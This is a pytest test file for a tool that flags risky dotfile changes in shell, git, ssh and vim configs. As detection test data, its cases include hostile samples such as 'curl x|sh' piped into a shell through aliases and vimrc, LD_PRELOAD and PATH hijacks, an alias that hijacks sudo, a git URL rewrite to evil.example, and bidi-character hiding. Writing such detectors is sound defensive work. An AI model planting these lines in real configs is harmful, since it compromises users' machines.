"""The risk report (qgitconf/risks.py): a table of changes, each with its exact risk ids.

Each row names what the change does.  Harmless changes must produce no finding at all,
and rules look only at added or changed lines.
"""

from __future__ import annotations

import pytest

from qgitconf.risks import (
    RULES,
    SEVERITIES,
    FileChange,
    Finding,
    assess,
    has_high,
    parse_gitconfig,
    summary,
)

F, X, L = 0o100644, 0o100755, 0o120000


def new(path: str, text: str | bytes, mode: int = F) -> FileChange:
    data = text.encode() if isinstance(text, str) else text
    return FileChange(path, None, mode, b"", data)


def edit(path: str, old: str, new_text: str, mode: int = F, old_mode: int = F) -> FileChange:
    return FileChange(path, old_mode, mode, old.encode(), new_text.encode())


GITCONFIG_OLD = "[user]\n\tname = Me\n[alias]\n\tst = status\n"

# (case id, change, expected risk ids in order)
CASES: list[tuple[str, FileChange, list[str]]] = [
    # -- harmless --
    (
        "git alias without !",
        edit(".gitconfig", GITCONFIG_OLD, GITCONFIG_OLD + "\tco = checkout\n"),
        [],
    ),
    (
        "git colour setting",
        edit(".gitconfig", GITCONFIG_OLD, GITCONFIG_OLD + "[color]\n\tui = auto\n"),
        [],
    ),
    ("new plain text file", new(".config/foo/notes.txt", "hello\n"), []),
    (
        "vim plain settings",
        new(".vimrc", "set number\nset tabstop=4 shiftwidth=4\nsyntax on\nset ft=sh\n"),
        [],
    ),
    (
        "ssh host block",
        new(".ssh/config", "Host github.com\n  User git\n  IdentityFile ~/.ssh/id\n"),
        [],
    ),
    ("removing a dangerous line", edit(".gitconfig", "[core]\n\tpager = evil\n", "[core]\n"), []),
    ("file removed", FileChange(".bashrc", F, None, b"rm -rf ~\n", b""), []),
    ("mode-only change to 644", edit("bin/tool", "echo\n", "echo\n", F, X), []),
    (
        "unchanged git key moved within file",
        edit(
            ".gitconfig",
            "[core]\n\tpager = less\n[user]\n\tname = a\n",
            "[user]\n\tname = a\n[core]\n\tpager = less\n",
        ),
        [],
    ),
    # -- executables --
    ("new executable", new(".config/foo/run", "#!/bin/sh\necho hi\n", X), ["executable-file"]),
    ("made executable", edit(".config/foo/run", "echo\n", "echo\n", X, F), ["executable-file"]),
    ("executable on PATH", new(".local/bin/ls", "#!/bin/sh\n", X), ["executable-in-path"]),
    ("executable on PATH changed", edit("bin/x", "a\n", "b\n", X, X), ["executable-in-path"]),
    # -- startup files --
    ("bashrc prompt", edit(".bashrc", "PS1='$ '\n", "PS1='# '\n"), ["shell-startup"]),
    ("zshenv", new(".zshenv", "export EDITOR=vim\n"), ["shell-startup"]),
    ("fish conf.d", new(".config/fish/conf.d/x.fish", "echo hi\n"), ["shell-startup"]),
    ("profile", edit(".profile", "", "umask 022\n"), ["shell-startup"]),
    ("xinitrc", new(".xinitrc", "exec i3\n"), ["x-session"]),
    ("xsession", new(".xsession", "xterm &\n"), ["x-session"]),
    (
        "autostart entry",
        new(".config/autostart/x.desktop", "[Desktop Entry]\nExec=x\n"),
        ["autostart-entry"],
    ),
    (
        "systemd user unit",
        new(".config/systemd/user/x.service", "[Service]\nExecStart=/bin/x\n"),
        ["systemd-user-unit"],
    ),
    ("environment.d", new(".config/environment.d/10-x.conf", "EDITOR=vim\n"), ["environment-d"]),
    (
        "environment.d LD_PRELOAD",
        new(".config/environment.d/10-x.conf", "LD_PRELOAD=/tmp/x.so\n"),
        ["environment-d", "shell-preload"],
    ),
    (
        "pam_environment PATH",
        new(".pam_environment", "PATH DEFAULT=/tmp:${PATH}\n"),
        ["environment-d", "shell-path-override"],
    ),
    (
        "desktop entry",
        new(".local/share/applications/firefox.desktop", "[Desktop Entry]\nExec=sh -c x\n"),
        ["desktop-entry"],
    ),
    # -- shell lines --
    (
        "PATH prepended",
        edit(".bashrc", "", 'export PATH="$HOME/.evil:$PATH"\n'),
        ["shell-startup", "shell-path-override"],
    ),
    (
        "fish_add_path",
        new(".config/fish/config.fish", "fish_add_path /tmp/x\n"),
        ["shell-startup", "shell-path-override"],
    ),
    (
        "zsh path array",
        new(".zshrc", "path=(/tmp/x $path)\n"),
        ["shell-startup", "shell-path-override"],
    ),
    (
        "LD_PRELOAD",
        edit(".bashrc", "", "export LD_PRELOAD=/tmp/x.so\n"),
        ["shell-startup", "shell-preload"],
    ),
    ("BASH_ENV", edit(".profile", "", "BASH_ENV=~/.x\n"), ["shell-startup", "shell-code-env"]),
    (
        "alias sudo",
        edit(".bashrc", "", "alias sudo='sudo_steal'\n"),
        ["shell-startup", "shell-alias-override"],
    ),
    (
        "alias ls colour is fine",
        edit(".bashrc", "", "alias ls='ls --color=auto'\n"),
        ["shell-startup"],
    ),
    (
        "alias ls with a command",
        edit(".bashrc", "", "alias ls='ls; curl x|sh'\n"),
        ["shell-startup", "shell-alias-override"],
    ),
    (
        "function git",
        edit(".bash_aliases", "", 'git() { command git "$@"; }\n'),
        ["shell-startup", "shell-alias-override"],
    ),
    (
        "fish function ssh",
        new(".config/fish/functions/ssh.fish", "function ssh\n  command ssh $argv\nend\n"),
        ["shell-startup", "shell-alias-override"],
    ),
    ("new alias ll", edit(".bashrc", "", "alias ll='ls -l'\n"), ["shell-startup"]),
    ("comment only in bashrc", edit(".bashrc", "PS1=x\n", "PS1=x\n# note\n"), []),
    # -- git config --
    (
        "git alias with !",
        edit(".gitconfig", GITCONFIG_OLD, GITCONFIG_OLD + '\tx = "!sh -c evil"\n'),
        ["git-alias-shell"],
    ),
    (
        "git alias with ! unquoted",
        new(".config/git/config", "[alias]\n  x = ! evil\n"),
        ["git-alias-shell"],
    ),
    (
        "core.pager",
        edit(".gitconfig", GITCONFIG_OLD, GITCONFIG_OLD + "[core]\n\tpager = evil\n"),
        ["git-command"],
    ),
    (
        "core.sshCommand mixed case",
        new(".gitconfig", "[Core]\n\tSshCommand = ssh -o ProxyCommand=x\n"),
        ["git-command"],
    ),
    ("core.editor", new(".gitconfig", "[core]\neditor = vim\n"), ["git-command"]),
    ("core.fsmonitor", new(".gitconfig", "[core]\n\tfsmonitor = /tmp/x\n"), ["git-command"]),
    ("core.hooksPath", new(".gitconfig", "[core]\n\thooksPath = ~/.hooks\n"), ["git-command"]),
    ("credential.helper", new(".gitconfig", "[credential]\n\thelper = !x\n"), ["git-command"]),
    ("diff.external", new(".gitconfig", "[diff]\n\texternal = x\n"), ["git-command"]),
    ("diff.*.textconv", new(".gitconfig", '[diff "pdf"]\n\ttextconv = x\n'), ["git-command"]),
    (
        "filter driver",
        new(".gitconfig", '[filter "lfs"]\n\tsmudge = x %f\n\tclean = y\n'),
        ["git-command", "git-command"],
    ),
    ("merge driver", new(".gitconfig", '[merge "ours"]\n\tdriver = true\n'), ["git-command"]),
    ("gpg.program", new(".gitconfig", "[gpg]\n\tprogram = /tmp/gpg\n"), ["git-command"]),
    ("gpg.ssh.program", new(".gitconfig", '[gpg "ssh"]\n\tprogram = x\n'), ["git-command"]),
    ("sequence.editor", new(".gitconfig", "[sequence]\n\teditor = x\n"), ["git-command"]),
    ("include.path", new(".gitconfig", "[include]\n\tpath = ~/x\n"), ["git-include"]),
    (
        "includeIf",
        new(".gitconfig", '[includeIf "gitdir:~/w/"]\n\tpath = ~/w.inc\n'),
        ["git-include"],
    ),
    (
        "url insteadOf",
        new(".gitconfig", '[url "https://evil.example/"]\n\tinsteadOf = https://github.com/\n'),
        ["git-url-rewrite"],
    ),
    ("http.proxy", new(".gitconfig", "[http]\n\tproxy = http://x:8080\n"), ["git-proxy"]),
    ("http.sslVerify", new(".gitconfig", "[http]\n\tsslVerify = false\n"), ["git-tls"]),
    ("deprecated [core.x] header", new(".gitconfig", "[pager.log]\n\tx = y\n"), ["git-command"]),
    ("key on the header line", new(".gitconfig", "[core] pager = x\n"), ["git-command"]),
    ("continued value", new(".gitconfig", '[alias]\n\tx = \\\n"!evil"\n'), ["git-alias-shell"]),
    (
        "section header changed",
        edit(".gitconfig", "[foo]\n\tpager = x\n", "[core]\n\tpager = x\n"),
        ["git-command"],
    ),
    ("gitattributes filter", new(".config/git/attributes", "*.txt filter=x\n"), ["git-attributes"]),
    # -- ssh --
    (
        "ProxyCommand",
        edit(".ssh/config", "Host a\n", "Host a\n  ProxyCommand nc %h %p\n"),
        ["ssh-proxy-command"],
    ),
    (
        "LocalCommand",
        new(".ssh/config", "Host *\n  PermitLocalCommand yes\n  LocalCommand x\n"),
        ["ssh-local-command", "ssh-local-command"],
    ),
    (
        "KnownHostsCommand",
        new(".ssh/config", "KnownHostsCommand=/tmp/x\n"),
        ["ssh-known-hosts-command"],
    ),
    ("Match exec", new(".ssh/config.d/a", 'Match host x exec "x"\n'), ["ssh-match-exec"]),
    ("PKCS11Provider", new(".ssh/config", "PKCS11Provider /tmp/x.so\n"), ["ssh-provider"]),
    (
        "StrictHostKeyChecking no",
        new(".ssh/config", "StrictHostKeyChecking no\n"),
        ["ssh-weakened"],
    ),
    ("StrictHostKeyChecking yes", new(".ssh/config", "StrictHostKeyChecking yes\n"), []),
    (
        "authorized_keys",
        new(".ssh/authorized_keys", "ssh-ed25519 AAAA x\n"),
        ["ssh-authorized-keys"],
    ),
    # -- vim --
    ("vim :!", new(".vimrc", ":!curl x | sh\n"), ["vim-shell-command"]),
    ("vim silent !", new(".vimrc", "silent !rm x\n"), ["vim-shell-command"]),
    ("vim autocmd !", new(".vimrc", "autocmd BufWritePost * !make\n"), ["vim-shell-command"]),
    ("vim system()", new(".vim/plugin/x.vim", "let x = system('id')\n"), ["vim-shell-command"]),
    ("vim mapping", new(".vimrc", "nnoremap <F5> :!make<CR>\n"), ["vim-shell-command"]),
    ("vim != is no shell", new(".vimrc", "if a != b | echo 1 | endif\nif a || !b\nendif\n"), []),
    ("vim silent! call", new(".vimrc", "silent! call plug#begin()\n"), []),
    ("vim set shell", new(".vimrc", "set shell=/tmp/x\n"), ["vim-option"]),
    ("vim set modeline", new(".vimrc", "set modeline\nset nomodeline\n"), ["vim-option"]),
    (
        "nvim lua os.execute",
        new(".config/nvim/init.lua", "os.execute('id')\n"),
        ["vim-shell-command"],
    ),
    (
        "nvim vim.fn.system",
        new(".config/nvim/lua/x.lua", "vim.fn.system({'id'})\n"),
        ["vim-shell-command"],
    ),
    ("nvim vim.cmd !", new(".config/nvim/init.lua", 'vim.cmd("!id")\n'), ["vim-shell-command"]),
    (
        "nvim lua option",
        new(".config/nvim/init.lua", "vim.opt.number = true\nvim.o.exrc = true\n"),
        ["vim-option"],
    ),
    # -- what the diff cannot show --
    ("symlink", FileChange(".config/x", None, L, b"", b"y"), ["symlink"]),
    ("symlink retargeted", FileChange(".config/x", L, L, b"y", b"z"), ["symlink"]),
    ("same symlink", FileChange(".config/x", L, L, b"y", b"y"), []),
    (
        "bashrc becomes a symlink",
        FileChange(".bashrc", F, L, b"x\n", b"notes"),
        ["symlink", "shell-startup"],
    ),
    ("binary", new(".config/x.bin", b"\x00\x01\x02"), ["binary-file"]),
    ("invalid utf-8 is binary", new(".config/x", b"\xff\xfe"), ["binary-file"]),
    ("binary bashrc", new(".bashrc", b"\x00x"), ["binary-file", "shell-startup"]),
    ("bidi override", new(".config/x", "a = 1 \u202e// ; x\n"), ["hidden-characters"]),
    ("ANSI escape", new(".config/x", "ok \x1b[2K\n"), ["hidden-characters"]),
    ("zero-width in name", new(".config/ba\u200dshrc", "x\n"), ["hidden-characters"]),
    ("carriage return hiding", new(".config/x", "echo ok\rhidden\n"), ["hidden-characters"]),
    ("CRLF line endings are fine", new(".config/x", "a\r\nb\r\n"), []),
    ("bidi in old lines only", edit(".config/x", "\u202e\n", "\u202e\nplain\n"), []),
]


def _ids(findings: list[Finding]) -> list[str]:
    return [f.rule for f in findings]


@pytest.mark.parametrize(("change", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_risk_table(change: FileChange, expected: list[str]) -> None:
    assert _ids(assess([change])) == expected


def test_every_rule_is_in_the_table_and_documented() -> None:
    from pathlib import Path

    seen = {rule for _, _, ids in CASES for rule in ids}
    assert seen == set(RULES), set(RULES) ^ seen
    doc = (Path(__file__).parent.parent / "docs" / "risks.md").read_text()
    for rule in RULES.values():
        assert rule.severity in SEVERITIES
        assert f"`{rule.id}`" in doc, rule.id


def test_findings_carry_line_and_sanitised_excerpt() -> None:
    change = edit(".gitconfig", GITCONFIG_OLD, GITCONFIG_OLD + "[core]\n\tpager = less \x1b[31m\n")
    hidden, f = assess([change])
    assert (hidden.rule, hidden.line) == ("hidden-characters", 6)
    assert (f.rule, f.severity, f.line) == ("git-command", "high", 6)
    assert "\x1b" not in f.text and "\\x1b" in f.text
    assert f.render().startswith("HIGH   git-command  .gitconfig:6")
    assert f.as_dict()["explanation"] == RULES["git-command"].explanation


def test_hostile_path_is_sanitised_in_findings() -> None:
    (f,) = assess([new(".config/a\u202eb", "x\n")])
    assert f.path == ".config/a\\u202eb"


def test_symlink_alias_makes_a_harmless_name_a_startup_file() -> None:
    change = new("notes/shell", "curl x | sh\n")
    assert _ids(assess([change])) == []
    assert _ids(assess([change], links={".bashrc": "notes/shell"})) == ["shell-startup"]
    desktop = new("notes/x.desktop", "[Desktop Entry]\nExec=x\n")
    assert _ids(assess([desktop])) == []
    found = assess([desktop], links={".config/autostart": "../notes", ".x": "/abs"})
    assert _ids(found) == ["autostart-entry"]
    chain = {".bashrc": ".b", ".b": "notes/shell"}
    assert _ids(assess([change], links=chain)) == ["shell-startup"]


def test_summary_and_has_high() -> None:
    found = assess([new(".bashrc", "x\n"), FileChange(".x", None, L, b"", b"y")])
    assert summary(found) == {"high": 1, "medium": 0, "low": 1}
    assert has_high(found)
    assert not has_high(assess([FileChange(".x", None, L, b"", b"y")]))


def test_gitconfig_parser_sections_and_subsections() -> None:
    text = '[Core]\n\tPager = less\n[url "HTTPS://x/"]\n\tinsteadOf = y ; comment\n[a.B]\n\tk\n'
    got = [(e.name, e.value, e.line) for e in parse_gitconfig(text)]
    assert got == [
        ("core.pager", "less", 2),
        ("url.HTTPS://x/.insteadof", "y", 4),
        ("a.b.k", None, 6),
    ]


def test_huge_file_is_not_line_diffed() -> None:
    old = "x\n" * 60_000
    change = edit(".bashrc", old, old + "echo\n")
    (f,) = assess([change])
    assert f.rule == "shell-startup"
